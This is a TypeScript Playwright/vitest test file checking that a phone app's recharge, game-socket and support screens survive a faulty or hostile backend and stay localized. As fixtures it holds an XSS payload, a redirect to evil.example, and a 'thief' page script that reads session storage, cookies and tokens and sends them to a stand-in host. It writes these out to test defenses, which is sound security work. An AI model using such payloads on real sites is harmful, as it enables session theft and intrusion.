import type { Page } from "playwright-core";
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import { LOCALES, type Locale } from "#contract/values/locale.ts";
import { refusals } from "#contract/refusals.ts";
import type { Server } from "#tools/server/server.ts";
import { startOwnServer } from "#tools/server/own-server.ts";
import { openPhone } from "#tools/screens/browser.ts";
import { browser } from "../helpers/own-browser.ts";
import { envelope, FaultOrigin, type Reply, replies, SECRET } from "../helpers/fault-origin.ts";
import { accepts, SocketOrigin } from "../helpers/socket-origin.ts";

// A player's phone in front of a backend that breaks: each screen says so in the player's language.

const UNEXPECTED: Readonly<Record<Locale, string>> = {
  in: "Something went wrong, please try again",
  pt: "Algo deu errado, tente de novo",
  mx: "Algo salió mal, inténtalo de nuevo",
  vi: "Đã xảy ra lỗi, vui lòng thử lại",
};
const RECONNECTING: Readonly<Record<Locale, string>> = {
  in: "Reconnecting",
  pt: "Reconectando",
  mx: "Reconectando",
  vi: "Đang kết nối lại",
};
const FAILED = refusals.upstream_failed.text;
const LATE = refusals.upstream_timeout.text;
const RECOVERY = { timeout: 20_000, interval: 100 };

const origin = new FaultOrigin();
const sockets = new SocketOrigin();
/** A host that may be framed (setting FRAME_ORIGINS), and where hostile pages send what they have read. */
const elsewhere = new FaultOrigin();
let server: Server;

beforeAll(async () => {
  await origin.start();
  await sockets.start();
  await elsewhere.start();
  server = await startOwnServer({
    UPSTREAM_ORIGIN: origin.url,
    UPSTREAM_ADDRESSES: `aviator=${sockets.url.replace("http", "ws")}/aviator`,
    UPSTREAM_TIMEOUT_MS: "1500",
    UPSTREAM_PAGES: "/pages/",
    FRAME_ORIGINS: elsewhere.url,
    CONTROL_TOKEN: "",
  });
});

afterAll(async () => {
  await server.stop();
  await origin.stop();
  await sockets.stop();
  await elsewhere.stop();
});

// Each test begins with a breaker that is closed.
beforeEach(async () => {
  origin.answerWith(envelope());
  const isWell = async () => (await fetch(`${server.url}/shop/products`)).status === 200;
  await vi.waitUntil(isWell, RECOVERY);
});

const TOKEN = "120007.c2VjcmV0LXNlY3JldC1zZWNyZXQ";

/** A member's phone at a path, and what must not happen on it. */
async function open(path: string, locale: Locale): Promise<{ page: Page; harm: string[] }> {
  const context = await openPhone(browser, { reducedMotion: "reduce" });
  const session = {
    token: TOKEN,
    nickName: "",
    mobile: "",
    userId: "",
    rCode: "",
    isEarly: true,
  };
  await context.addInitScript(
    ([kept, settings]) => {
      localStorage.setItem("app.session", kept ?? "");
      localStorage.setItem("app.settings", settings ?? "");
    },
    [JSON.stringify(session), JSON.stringify({ theme: "system", locale })],
  );
  const page = await context.newPage();
  const harm: string[] = [];
  page.on("pageerror", (error) => harm.push(`error: ${error.message}`));
  page.on("dialog", (dialog) => {
    harm.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("framenavigated", (frame) => {
    if (new URL(frame.url()).origin !== server.url) harm.push(`left for ${frame.url()}`);
  });
  await page.goto(server.url + path);
  return { page, harm };
}

const SCRIPT = `<img src=x onerror="alert('${SECRET}')">`;
const json = { "content-type": "application/json" };
const BIG = `{"code":200,"msg":"OK","queryset":["${"x".repeat(1e7)}"]}`;
const listOf = (rows: unknown): Reply => envelope({ page: { count: 1 }, queryset: rows });

const ROWS: readonly (readonly [name: string, reply: Reply, says: Readonly<Record<Locale, string>>])[] = [
  [
    "a page in place of JSON",
    replies.text(`<html>${SCRIPT}${SECRET}</html>`, 200, { "content-type": "text/html" }),
    FAILED,
  ],
  ["10 MB", replies.text(BIG, 200, { ...json, "content-length": String(BIG.length) }), FAILED],
  ["10 MB of an unknown length", replies.text(BIG, 200, json), FAILED],
  ["JSON nested 100,000 times", replies.text("[".repeat(1e5) + "]".repeat(1e5), 200, json), FAILED],
  ["a body that is cut", replies.cut('{"code":200,"que'), FAILED],
  ["a redirect to another host", replies.text("", 302, { location: "https://evil.example/" }), FAILED],
  ["silence", replies.never(), LATE],
  ["a list that is a number", listOf(7), UNEXPECTED],
  [
    "an envelope without an end",
    replies.pieces(1_000, `{"code":200,"msg":"${"x".repeat(65_536)}`, "application/json"),
    FAILED,
  ],
];

describe("a screen in front of a backend that answers with", () => {
  // Each answer in two languages, and each language with half of the answers.
  it.each(ROWS.map((row, index) => [...row, index] as const))(
    "%s says so in the player's language",
    async (_, reply, says, index) => {
      origin.answerWith(reply);
      const locales = LOCALES.filter((_locale, at) => at % 2 === index % 2);
      await Promise.all(locales.map((locale) => saysAt("/rechargeRecord", locale, says[locale])));
    },
  );

  async function saysAt(path: string, locale: Locale, text: string): Promise<void> {
    const { page, harm } = await open(path, locale);
    await page.getByRole("alert").getByText(text).waitFor();
    expect(await page.getByRole("alert").getByRole("button").count()).toBe(1);
    expect(await page.content()).not.toContain(SECRET);
    expect(harm).toEqual([]);
  }

  it("rows of another shape shows the others", async () => {
    const row = { price: 250, status: "Success", channel_name: SCRIPT, create_time: 1_795_210_860_000 };
    origin.answerWith(listOf([null, 7, [], { ...row, price: {} }, row]));
    const { page, harm } = await open("/rechargeRecord", "in");
    await page.getByText("₹250").first().waitFor();
    await page.getByText(SCRIPT).first().waitFor();
    expect(harm).toEqual([]);
  });

  it("a message with a script shows it as text", async () => {
    origin.answerWith(envelope({ code: 4000, msg: SCRIPT }));
    const { page, harm } = await open("/rechargeRecord", "vi");
    await page.getByRole("alert").getByText(SCRIPT).waitFor();
    expect(harm).toEqual([]);
  });
});

describe("a game in front of a socket of the backend", () => {
  it.each<[string, Locale, (send: (text: string) => void, cut: () => void) => void]>([
    ["closes at once", "pt", (_, cut) => cut()],
    ["sends a giant frame", "mx", (send) => send("x".repeat(2_000_000))],
    ["floods", "vi", (send) => Array.from({ length: 400 }, () => send("x".repeat(16_384)))],
  ])("that %s says that it connects again: %s", async (_, locale, harmBy) => {
    sockets.welcomeWith(
      accepts((socket) =>
        harmBy(
          (text) => void socket.send(text),
          () => socket.close(1011),
        ),
      ),
    );
    const { page, harm } = await open("/aviator", locale);
    await page.getByText(RECONNECTING[locale]).first().waitFor();
    expect(harm).toEqual([]);
  });

  it("that sends what are no frames goes on with those that are", async () => {
    sockets.welcomeWith(
      accepts((socket) => {
        for (const text of [
          "",
          "null",
          "[]",
          '{"cmd":5002,"data":"{"}',
          `{"cmd":5008,"data":"${SCRIPT.replaceAll('"', "'")}"}`,
        ]) {
          socket.send(text);
        }
        const results = [{ period: 1, result: "x" }, null, { period: 179_521_080_000, result: 3.21 }];
        socket.send(JSON.stringify({ cmd: 5008, data: JSON.stringify({ results }) }));
      }),
    );
    const { page, harm } = await open("/aviator", "in");
    await page.getByText("3.21").first().waitFor();
    expect(harm).toEqual([]);
  });
});

describe("a hostile page of the backend", () => {
  const ANY = "default-src * 'unsafe-inline' data: blob:";
  /** Tries to read the session as the app's own script would, and sends elsewhere what came of it. */
  const thief = () => `<!doctype html><title>pay</title><script type="module">
    const tries = [
      () => localStorage.getItem("app.session"),
      () => parent.localStorage.getItem("app.session"),
      () => document.cookie,
      () => parent.document.cookie,
      () => navigator.serviceWorker.register("/pages/worker.js"),
      () => fetch("/user/profile", { headers: { authorization: "Token ${TOKEN}" } }),
    ];
    const got = [];
    for (const each of tries) {
      try { got.push("got " + await each()); } catch (error) { got.push(error.name); }
    }
    const own = await fetch("/pages/own.json").then((answer) => answer.text(), () => "none");
    fetch("${elsewhere.url}/told?" + new URLSearchParams({ got, own, origin: self.origin }), { mode: "no-cors" });
  </script>`;

  it.each([
    ["without a policy that lets its script run", 200, ANY],
    ["that asks for the app's origin", 200, `sandbox allow-scripts allow-same-origin; ${ANY}`],
    ["with two policies", 200, `${ANY}, sandbox allow-scripts allow-same-origin`],
    ["that is not found", 404, ANY],
  ])(
    "%s (%i) runs without the app's origin, opened or framed by a host that may be framed",
    async (_, status, policy) => {
      const headers = { "content-type": "text/html", "content-security-policy": policy };
      origin.answerWith((request, response) => {
        const { pathname } = new URL(request.url ?? "", server.url);
        const home = { notice_content: "", queryset: [], more_game_list: [], in_out_game_list: [] };
        if (pathname === "/pages/own.json") return replies.text("its own", 200, json)(request, response);
        if (pathname.startsWith("/pages/")) return replies.text(thief(), status, headers)(request, response);
        return envelope({ ...home, livechat_url: `${elsewhere.url}/chat` })(request, response);
      });
      const away = `<!doctype html><script>location = "${server.url}/pages/framed"</script>`;
      elsewhere.answerWith(replies.text(away, 200, { "content-type": "text/html" }));
      const told = () => elsewhere.asked.map(({ url }) => url).filter((url) => url.startsWith("/told?"));
      const refused = [
        "SecurityError",
        "SecurityError",
        "SecurityError",
        "SecurityError",
        "SecurityError",
        "TypeError",
      ];
      const safe = { got: refused.join(","), own: "its own", origin: "null" };

      const { page } = await open("/contactSupport", "in");
      await expect.poll(told, RECOVERY).toHaveLength(1);
      await page.goto(`${server.url}/pages/opened`);
      await expect.poll(told, RECOVERY).toHaveLength(2);
      const heard = told().map((url) => Object.fromEntries(new URL(url, elsewhere.url).searchParams));
      expect(heard).toEqual([safe, safe]);
      expect(JSON.stringify(elsewhere.asked)).not.toContain(TOKEN);
    },
  );
});
